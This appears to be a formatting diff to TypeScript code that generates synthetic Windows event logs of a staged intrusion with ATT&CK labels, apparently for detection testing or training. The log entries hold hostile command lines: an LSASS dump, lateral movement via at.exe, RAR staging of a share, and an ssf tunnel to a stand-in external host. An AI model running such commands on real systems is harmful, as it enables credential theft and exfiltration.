@@ -210,7 +210,14 @@ class SecurityLog {
     });
   }
 
-  processCreate(time: string, image: string, cmd: string, pid: number, parent: string, parentPid: number): void {
+  processCreate(
+    time: string,
+    image: string,
+    cmd: string,
+    pid: number,
+    parent: string,
+    parentPid: number,
+  ): void {
     this.add(4688, time, 13312, {
       SubjectUserSid: 'S-1-5-18',
       SubjectUserName: 'FS01$',
@@ -237,8 +244,18 @@ export function exampleLogs(): ExampleLog[] {
   const web = new SysmonLog('WEB01.corp.example');
   const iis = 'IIS APPPOOL\\DefaultAppPool';
   const sys = 'NT AUTHORITY\\SYSTEM';
-  const w3wp = proc('C:\\Windows\\System32\\inetsrv\\w3wp.exe', 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"', 3844, iis);
-  const services = proc('C:\\Windows\\System32\\services.exe', 'C:\\Windows\\system32\\services.exe', 640, sys);
+  const w3wp = proc(
+    'C:\\Windows\\System32\\inetsrv\\w3wp.exe',
+    'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "DefaultAppPool"',
+    3844,
+    iis,
+  );
+  const services = proc(
+    'C:\\Windows\\System32\\services.exe',
+    'C:\\Windows\\system32\\services.exe',
+    640,
+    sys,
+  );
   const explorer = proc('C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE', 5012, 'CORP\\webadmin');
 
   // Benign background: the app pool compiles a page; an admin opens a browser; updates run.
@@ -263,15 +280,39 @@ export function exampleLogs(): ExampleLog[] {
   // Stage 1: exploitation drops a web shell disguised as an IIS error page (T1190, T1505.003).
   web.fileCreate('01:12:45.377', w3wp, 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\error2.aspx');
   // Stage 2: the web shell runs commands (process tree w3wp -> cmd -> discovery; T1059.003, T1033, T1069, T1482).
-  const cmd1 = proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all', 4480, iis, { cwd: 'c:\\windows\\system32\\inetsrv\\' });
+  const cmd1 = proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all', 4480, iis, {
+    cwd: 'c:\\windows\\system32\\inetsrv\\',
+  });
   web.processCreate('01:14:03.021', cmd1, w3wp);
-  web.processCreate('01:14:03.090', proc('C:\\Windows\\System32\\whoami.exe', 'whoami  /all', 4492, iis), cmd1);
-  const cmd2 = proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c net group "domain admins" /domain', 4520, iis);
+  web.processCreate(
+    '01:14:03.090',
+    proc('C:\\Windows\\System32\\whoami.exe', 'whoami  /all', 4492, iis),
+    cmd1,
+  );
+  const cmd2 = proc(
+    'C:\\Windows\\System32\\cmd.exe',
+    'cmd.exe /c net group "domain admins" /domain',
+    4520,
+    iis,
+  );
   web.processCreate('01:15:22.610', cmd2, w3wp);
-  web.processCreate('01:15:22.700', proc('C:\\Windows\\System32\\net.exe', 'net  group "domain admins" /domain', 4528, iis), cmd2);
-  const cmd3 = proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c nltest /domain_trusts /all_trusts', 4560, iis);
+  web.processCreate(
+    '01:15:22.700',
+    proc('C:\\Windows\\System32\\net.exe', 'net  group "domain admins" /domain', 4528, iis),
+    cmd2,
+  );
+  const cmd3 = proc(
+    'C:\\Windows\\System32\\cmd.exe',
+    'cmd.exe /c nltest /domain_trusts /all_trusts',
+    4560,
+    iis,
+  );
   web.processCreate('01:16:40.002', cmd3, w3wp);
-  web.processCreate('01:16:40.090', proc('C:\\Windows\\System32\\nltest.exe', 'nltest  /domain_trusts /all_trusts', 4566, iis), cmd3);
+  web.processCreate(
+    '01:16:40.090',
+    proc('C:\\Windows\\System32\\nltest.exe', 'nltest  /domain_trusts /all_trusts', 4566, iis),
+    cmd3,
+  );
   // Stage 3: tools pulled in with BITS into C:\Windows\Debug (T1197, T1105).
   const cmd4 = proc(
     'C:\\Windows\\System32\\cmd.exe',
@@ -287,30 +328,58 @@ export function exampleLogs(): ExampleLog[] {
     iis,
   );
   web.processCreate('01:20:05.520', bits, cmd4);
-  web.fileCreate('01:20:09.118', proc('C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS', 1088, sys), 'C:\\Windows\\Debug\\wsus.exe');
+  web.fileCreate(
+    '01:20:09.118',
+    proc(
+      'C:\\Windows\\System32\\svchost.exe',
+      'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS',
+      1088,
+      sys,
+    ),
+    'C:\\Windows\\Debug\\wsus.exe',
+  );
   // Stage 4: LSASS dumped with a renamed ProcDump (T1003.001).
   const dumper = proc(
     'C:\\Windows\\Debug\\wsus.exe',
     'C:\\Windows\\Debug\\wsus.exe -accepteula -ma lsass.exe C:\\Windows\\Debug\\ls.dmp',
     4702,
     sys,
-    { originalFileName: 'procdump', description: 'Sysinternals process dump utility', company: 'Sysinternals - www.sysinternals.com', product: 'ProcDump' },
+    {
+      originalFileName: 'procdump',
+      description: 'Sysinternals process dump utility',
+      company: 'Sysinternals - www.sysinternals.com',
+      product: 'ProcDump',
+    },
   );
   const lsass = proc('C:\\Windows\\System32\\lsass.exe', 'C:\\Windows\\system32\\lsass.exe', 652, sys);
   web.processCreate('01:25:31.800', dumper, cmd4);
   web.processAccess('01:25:32.011', dumper, lsass, '0x1fffff');
   web.fileCreate('01:25:34.950', dumper, 'C:\\Windows\\Debug\\ls.dmp');
   // Stage 5: lateral movement with at.exe to the file server (T1053.002).
-  const cmd5 = proc('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c at \\\\FS01 02:00 C:\\Windows\\Debug\\svc.bat', 4750, iis);
+  const cmd5 = proc(
+    'C:\\Windows\\System32\\cmd.exe',
+    'cmd.exe /c at \\\\FS01 02:00 C:\\Windows\\Debug\\svc.bat',
+    4750,
+    iis,
+  );
   web.processCreate('01:30:12.300', cmd5, w3wp);
-  web.processCreate('01:30:12.380', proc('C:\\Windows\\System32\\at.exe', 'at  \\\\FS01 02:00 C:\\Windows\\Debug\\svc.bat', 4756, iis), cmd5);
+  web.processCreate(
+    '01:30:12.380',
+    proc('C:\\Windows\\System32\\at.exe', 'at  \\\\FS01 02:00 C:\\Windows\\Debug\\svc.bat', 4756, iis),
+    cmd5,
+  );
   // Stage 8: staging and password-protected archiving in C:\Windows\Debug (T1074.001, T1560.001).
   const rar = proc(
     'C:\\Windows\\Debug\\rar.exe',
     'C:\\Windows\\Debug\\rar.exe a -hpNavy2026! -r C:\\Windows\\Debug\\out.rar \\\\FS01\\Projects\\UUV\\*',
     5010,
     sys,
-    { originalFileName: 'Rar.exe', company: 'Alexander Roshal', product: 'WinRAR', description: 'Command line RAR' },
+    {
+      originalFileName: 'Rar.exe',
+      company: 'Alexander Roshal',
+      product: 'WinRAR',
+      description: 'Command line RAR',
+    },
   );
   web.processCreate('02:40:18.000', rar, cmd4);
   web.fileCreate('02:44:51.210', rar, 'C:\\Windows\\Debug\\out.rar');
@@ -322,12 +391,18 @@ export function exampleLogs(): ExampleLog[] {
     sys,
   );
   web.processCreate('02:45:02.000', netsh, cmd4);
-  const ssf = proc('C:\\Windows\\Debug\\ssf.exe', 'C:\\Windows\\Debug\\ssf.exe -D 9999 -p 443 198.51.100.23', 5140, sys, {
-    originalFileName: 'ssf.exe',
-    company: '-',
-    product: '-',
-    description: '-',
-  });
+  const ssf = proc(
+    'C:\\Windows\\Debug\\ssf.exe',
+    'C:\\Windows\\Debug\\ssf.exe -D 9999 -p 443 198.51.100.23',
+    5140,
+    sys,
+    {
+      originalFileName: 'ssf.exe',
+      company: '-',
+      product: '-',
+      description: '-',
+    },
+  );
   web.processCreate('02:50:44.000', ssf, cmd4);
   web.networkConnect('02:50:44.300', ssf, '10.10.5.20', '198.51.100.23', '-', 443);
   // Stage 10: exfiltration to Dropbox from PowerShell (T1567.002).
@@ -375,7 +450,14 @@ export function exampleLogs(): ExampleLog[] {
     TaskContent:
       '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions Context="Author"><Exec><Command>C:\\Windows\\Debug\\svc.bat</Command></Exec></Actions></Task>',
   });
-  fs.processCreate('02:00:00.150', 'C:\\Windows\\System32\\cmd.exe', 'cmd /c C:\\Windows\\Debug\\svc.bat', 0x1a2c, 'C:\\Windows\\System32\\taskeng.exe', 0x3f0);
+  fs.processCreate(
+    '02:00:00.150',
+    'C:\\Windows\\System32\\cmd.exe',
+    'cmd /c C:\\Windows\\Debug\\svc.bat',
+    0x1a2c,
+    'C:\\Windows\\System32\\taskeng.exe',
+    0x3f0,
+  );
   fs.processCreate(
     '02:00:01.020',
     'C:\\Windows\\System32\\rundll32.exe',
@@ -384,16 +466,33 @@ export function exampleLogs(): ExampleLog[] {
     'C:\\Windows\\System32\\cmd.exe',
     0x1a2c,
   );
-  fs.processCreate('02:05:00.000', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k LocalService', 0x210, 'C:\\Windows\\System32\\services.exe', 0x280);
+  fs.processCreate(
+    '02:05:00.000',
+    'C:\\Windows\\System32\\svchost.exe',
+    'C:\\Windows\\system32\\svchost.exe -k LocalService',
+    0x210,
+    'C:\\Windows\\System32\\services.exe',
+    0x280,
+  );
 
   // DC01: Kerberoasting burst — RC4 service tickets for many SPNs from one account (T1558.003).
   const dc = new SecurityLog('DC01.corp.example');
-  const spns = ['MSSQLSvc/sql01.corp.example:1433', 'HTTP/intranet.corp.example', 'CIFS/fs02.corp.example', 'MSSQLSvc/bms01.corp.example:1433', 'exchangeAB/ex01.corp.example', 'HOST/backup01.corp.example', 'SAP/erp01.corp.example', 'FIMService/idm01.corp.example'];
+  const spns = [
+    'MSSQLSvc/sql01.corp.example:1433',
+    'HTTP/intranet.corp.example',
+    'CIFS/fs02.corp.example',
+    'MSSQLSvc/bms01.corp.example:1433',
+    'exchangeAB/ex01.corp.example',
+    'HOST/backup01.corp.example',
+    'SAP/erp01.corp.example',
+    'FIMService/idm01.corp.example',
+  ];
   spns.forEach((spn, i) => {
     dc.add(4769, `02:10:${String(10 + i * 3).padStart(2, '0')}.500`, 14337, {
       TargetUserName: 'svc_web@CORP.EXAMPLE',
       TargetDomainName: 'CORP.EXAMPLE',
-      ServiceName: spn.split('/')[0] === 'MSSQLSvc' ? `svc_sql${i}` : `svc_${spn.split('/')[0]?.toLowerCase()}`,
+      ServiceName:
+        spn.split('/')[0] === 'MSSQLSvc' ? `svc_sql${i}` : `svc_${spn.split('/')[0]?.toLowerCase()}`,
       ServiceSid: `S-1-5-21-3623811015-3361044348-30300820-${1100 + i}`,
       TicketOptions: '0x40810000',
       TicketEncryptionType: '0x17',
